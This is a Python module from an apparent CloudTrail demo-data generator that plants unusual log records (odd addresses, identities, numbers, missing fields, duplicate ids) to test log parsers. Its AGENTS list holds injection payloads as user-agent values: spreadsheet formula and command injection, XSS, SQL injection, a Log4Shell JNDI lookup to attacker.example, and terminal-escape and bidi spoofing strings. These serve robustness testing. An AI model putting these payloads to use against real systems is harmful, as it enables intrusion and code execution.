"""Odd but real: the values that readers of CloudTrail trip over, each of them at least once.

All of them were met in public collections of real records; values here are made up. They stand in accounts
without a second trail, so that records without an id are delivered once.
"""

import json
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

from trailhouse.demo.actors import user_identity
from trailhouse.demo.dice import Dice
from trailhouse.demo.organization import HOME_REGION, Account, Organization
from trailhouse.demo.record import Caller, record
from trailhouse.demo.runs import Planted, run_of

UNKNOWN_REGION = "mx-northcentral-7"

ADDRESSES = (
    "AWS Internal",
    "AWS Internal/3",
    "",
    "10.20.0.0/16",
    "2001:db8:85a3::8a2e:370:7334",
    "cloudformation.amazonaws.com",
    "192.0.2.256",
    "ec2-frontend-api.internal",
)
AGENTS = (
    "\x1b[2J\x1b[1;31mowned\x1b[0m\x07",
    "\x1b]8;;https://attacker.example\x07click\x1b]8;;\x07",
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("https://attacker.example","open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "'; DROP TABLE cloudtrail; --",
    "${jndi:ldap://attacker.example/a}",
    "\u202egnp.tool\u202c \u200b\u2066left\u2069",
    "\x9b31mC1 control\x9b0m\x7f",
    "tab\there, newline\nthere, return\rand nul\x00",
    "curl/8.5.0 \\\\ \"quoted\" 'single' `back`",
    "",
)
NAMES = (
    "데이터-관리자",
    "Zoë Ångström",
    "🚀-deploy-💥",
    "10:32:07\u202fPM",
    "名前\tタブ",
    "ユーザー\n二行目",
    "a" * 256,
)
NUMBERS = (
    "1.68890570862E9",
    "123456789012345678901234567890",
    "0.0",
    "544",
    "9007199254740993",
    "-0",
    "1e400",
    "0.10000000000000000555",
    "1.10",
)
FIELDS: tuple[dict[str, Any], ...] = (
    {"additionalEventData": "service specific text, not an object"},
    {"additionalEventData": ""},
    {"resources": ""},
    {"resources": []},
    {"resources": None},
    {"resources": [{"ARNPrefix": "arn:aws:s3:::prefix/*", "type": "AWS::S3::Object"}]},
    {"requestParameters": "a string"},
    {"requestParameters": ""},
    {"requestParameters": []},
    {"requestParameters": {}},
    {"responseElements": "null"},
    {
        "requestParameters": {
            "resource.resourceType": "x",
            "aws:lambda:FunctionArn": "y",
            "#AT": 1,
            "": "empty",
        }
    },
    {"futureField": {"nested": [1, 2, {"deep": None}]}, "anotherField": "text"},
    {"eventContext": {"requestContext": {"aws:SourceVpc": "vpc-1"}, "tagContext": {}}},
    {"sessionCredentialFromConsole": True},
    {"errorMessage": {"detail": "an object where text is expected", "code": 7}},
    {"apiVersion": None, "readOnly": None, "vpcEndpointId": None},
    {"readOnly": "true", "managementEvent": "false"},
    {"serviceEventDetails": {"snapshotId": "rds:copy", "steps": [1.0, 2]}, "eventType": "AwsServiceEvent"},
    {"edgeDeviceDetails": {"snowJobId": "JID-1", "deviceType": "SNOWBALL_EDGE"}},
    {"tlsDetails": {"tlsVersion": "TLSv1.3", "keyExchange": "X25519MLKEM768", "futureCipher": True}},
    {
        "addendum": {
            "reason": "UPDATED_DATA",
            "updatedFields": "eventRequestDetails.attributes, userIdentity",
            "originalRequestID": "9e5a4d1c",
            "originalEventID": "1d6a2f3e-4c5b-6a79-8897-a6b5c4d3e2f1",
        }
    },
    {"addendum": {"reason": "DELIVERY_DELAY"}},
    {"requestParameters": {"description": "line one\nline two\tand a tab\r\n", "note": "10:32\u202fPM ok"}},
    {"requestParameters": {"policyDocument": "x" * 18115}},
    {"requestParameters": {"userData": "".join(f"{i:07d}\n" for i in range(8500))}},
)
IDENTITIES: tuple[dict[str, Any], ...] = (
    {"accountId": "@", "invokedBy": "ssm.amazonaws.com"},
    {},
    {"type": "AWSService", "invokedBy": "AWS Internal"},
    {"type": "Unknown", "principalId": "", "accountId": "@", "userName": "HIDDEN_DUE_TO_SECURITY_REASONS"},
    {"type": "AWSAccount", "principalId": "AIDAXXXXXXXXXXXXXXXXX", "accountId": "999999999999"},
    {
        "type": "SAMLUser",
        "principalId": "abc:user@corp.example",
        "userName": "user@corp.example",
        "identityProvider": "abc",
    },
    {
        "type": "IdentityCenterUser",
        "accountId": "@",
        "onBehalfOf": {
            "userId": "544894e8-80c1-707f-60e3-3ba6510dfac1",
            "identityStoreArn": "arn:aws:identitystore::@:identitystore/d-9067642ac7",
        },
        "credentialId": "EXAMPLEVHULjJdTUdPJfofVa1sufHDoj7aYcOYcxFVllWR_Whr1fEXAMPLE",
    },
    {
        "type": "AssumedRole",
        "arn": "arn:aws:sts::@:assumed-role/audit/odd",
        "accountId": "@",
        "invokedByDelegate": {"accountId": "999999999999"},
        "inScopeOf": {
            "sourceArn": "arn:aws:lambda:us-east-1:@:function:f",
            "issuerType": "AWS::Lambda::Function",
        },
        "sessionContext": {
            "sessionIssuer": {},
            "webIdFederationData": {},
            "attributes": {"mfaAuthenticated": "false", "creationDate": "2026-03-02T01:00:00Z"},
            "sourceIdentity": "someone",
            "assumedRoot": "true",
            "ec2RoleDelivery": "1.0",
        },
        "somethingNew": {"a": 1},
    },
    {"type": "Directory", "userName": "CORP\\administrator", "sessionContext": {}},
)


# Texts that would change if they were parsed and written again.
EXACT = (
    '{"Tagging":"","tagging":{"TagSet":{}}}',
    '{"tag":"a","Tag":[{"Key":"k"}]}',
    '{ "a" : [ 1 , 2 ],\t"b":"\\u00e9\\/" }',
)

Odd = tuple[Account, str, dict[str, Any], dict[str, str]]


def oddities(organization: Organization, start: datetime, seed: int) -> Iterator[Planted]:
    """Yield the odd records, spread over the first week from `start`."""
    dice = Dice(f"{seed}:oddities")
    for at, (account, region, told, text) in enumerate(_odd(organization, dice, start)):
        when = start + timedelta(hours=3 + at, minutes=dice.between(0, 59))
        stamp = f"{when:%Y-%m-%dT%H:%M:%SZ}"
        moved = told | {"eventTime": stamp}
        yield Planted(when, account.number, region, run_of(moved, _text(moved, text)))


def _text(told: dict[str, Any], changes: dict[str, str]) -> str:
    text = json.dumps(told, separators=(",", ":"), ensure_ascii=False)
    for old, new in changes.items():
        text = text.replace(old, new)
    return text


def _odd(organization: Organization, dice: Dice, start: datetime) -> Iterator[Odd]:
    """Yield account, region folder, record and replacements in its text."""
    accounts = [organization.account(name) for name in ("sandbox", "ml-research", "dev", "network")]
    lab = accounts[0]
    caller = Caller(user_identity(lab, "odd.one", dice), "192.0.2.77", "aws-cli/1.18.69 Python/3.8.10")

    def plain(call: str = "s3:PutBucketTagging", **fields: Any) -> dict[str, Any]:  # noqa: ANN401 - any field
        return record(dice, caller, start, call, (lab.number, HOME_REGION), **fields)

    told = [plain(sourceIPAddress=address) for address in ADDRESSES]
    told += [plain(userAgent=agent) for agent in AGENTS]
    told += [plain(**fields) for fields in FIELDS]
    told += [plain("iam:CreateUser", requestParameters={"userName": name}) for name in NAMES]
    told += _old(dice, plain("ec2:StartInstances"))
    told += _namesakes(dice, plain("iam:ListRoles"))
    told += _without(dice, plain("sts:GetCallerIdentity"))
    yield from ((lab, HOME_REGION, one, {}) for one in told)
    for number in NUMBERS:
        extra = {"bytesTransferredIn": "@n", "bytesTransferredOut": 544}
        yield lab, HOME_REGION, plain("s3:GetObject", additionalEventData=extra), {'"@n"': number}
    for text in EXACT:
        yield lab, HOME_REGION, plain(requestParameters="@text"), {'"@text"': text}
    for account, identity in zip(accounts * 3, IDENTITIES, strict=False):
        own = json.loads(json.dumps(identity).replace("@", account.number))
        one = plain("ec2:DescribeInstances", userIdentity=own, recipientAccountId=account.number)
        yield account, account.regions[0][0], one, {}
    yield lab, UNKNOWN_REGION, plain("ec2:DescribeRegions", awsRegion=UNKNOWN_REGION), {}
    for region in ("eu-west-1", "us-west-2"):
        yield lab, region, plain("iam:ListUsers"), {}


def _without(dice: Dice, told: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """Records that lack one field each."""
    for name in (
        "userIdentity",
        "sourceIPAddress",
        "userAgent",
        "requestID",
        "requestParameters",
        "eventCategory",
    ):
        yield {k: v for k, v in told.items() if k != name} | {"eventID": dice.uuid()}


def _old(dice: Dice, told: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """Records of old versions: no event id, no type, no recipient, no category."""
    kept = ["eventVersion", "userIdentity", "eventTime", "eventSource", "eventName", "awsRegion"]
    kept += ["sourceIPAddress", "userAgent", "requestParameters", "responseElements"]
    oldest = {name: told[name] for name in kept} | {"eventVersion": "1.0"}
    yield oldest
    yield oldest
    yield oldest | {
        "eventVersion": "1.01",
        "requestID": dice.uuid(),
        "eventID": f"aEXAMPLE-{dice.hex(12).upper()}",
    }
    yield oldest | {"eventVersion": "1.02", "eventID": dice.uuid(), "eventType": "AwsApiCall"}


def _namesakes(dice: Dice, told: dict[str, Any]) -> Iterator[dict[str, Any]]:
    """Two different events with one event id."""
    yield told
    yield told | {"eventName": "ListUsers", "requestID": dice.uuid()}
